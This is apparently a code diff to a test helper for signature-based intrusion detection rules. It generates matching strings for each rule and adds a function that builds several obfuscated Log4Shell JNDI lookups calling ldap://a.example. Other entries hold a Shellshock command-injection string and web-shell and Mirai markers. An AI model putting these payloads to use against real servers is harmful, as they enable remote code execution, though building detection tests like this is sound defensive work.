@@ -26,6 +26,7 @@ const tails: Readonly<Record<string, string>> = {
   'web-shell-use': 'id',
   'log4shell-lookup': 'ldap://a.example/x}',
   'log4shell-hidden': `\${lower:j}ndi:ldap://a.example/x}`,
+  'log4shell-hidden-elsewhere': 'lower:j}ndi:ldap://a.example/x}',
   shellshock: ':;}; id',
   'shellshock-elsewhere': '; }; id',
   'mirai-busybox': ' ECCHI',
@@ -58,7 +59,18 @@ const tails: Readonly<Record<string, string>> = {
 
 /** A text that the rule finds, around one of its literals. */
 export function hitOf({ id }: SignatureRule, literal: string): string {
+  if (id === 'log4shell-hidden-elsewhere') return hiddenLookup(literal)
   return `${literal}${tails[id] ?? ''}`
+}
+
+/** The whole look-up that a literal of such a look-up is a part of. */
+function hiddenLookup(literal: string): string {
+  const end = 'ndi:ldap://a.example/x}'
+  if (literal === '${${') return `${literal}lower:j}${end}`
+  if (literal === '${j') return `${literal}n\${lower:d}i:ldap://a.example/x}`
+  if (literal === '${:-') return `\${${literal}j}${end}`
+  if (literal === '${\\u00') return `${literal}6a${end}`
+  return literal.startsWith('${') ? `\${${literal}:-j}${end}` : `${literal}j${end}`
 }
 
 /** The same with another last character in the literal, so that it is found nowhere. */
